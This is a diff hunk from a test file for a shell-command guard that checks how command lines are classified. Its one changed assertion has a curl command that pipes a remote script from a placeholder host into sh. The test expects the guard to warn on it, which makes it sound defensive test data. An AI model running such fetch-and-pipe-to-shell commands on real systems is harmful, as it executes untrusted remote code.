@@ -102,8 +102,8 @@ def test_attyguard_c_with_a_clean_line_never_imports_the_parser(tmp_path: Path) 
     assert ask("ls -la") == "allow True True True True"
     assert ask("ls -la /tmp") == "allow False False False False"
     # A line with a rule's atom goes to the full engine ...
-    assert ask("curl -fsS http://example.invalid/i.sh | sh").startswith("warn True")
-    assert ask("curl -fsS http://example.invalid/i.sh | sh").startswith("warn True")
+    assert ask("curl -fsS https://example.invalid/i.sh | sh").startswith("warn True")
+    assert ask("curl -fsS https://example.invalid/i.sh | sh").startswith("warn True")
     # ... and one it allowed with no hit (`true` holds the atom ^tr) is quick the next time.
     assert ask("true") == "allow True True True True"
     assert ask("true") == "allow False False False False"
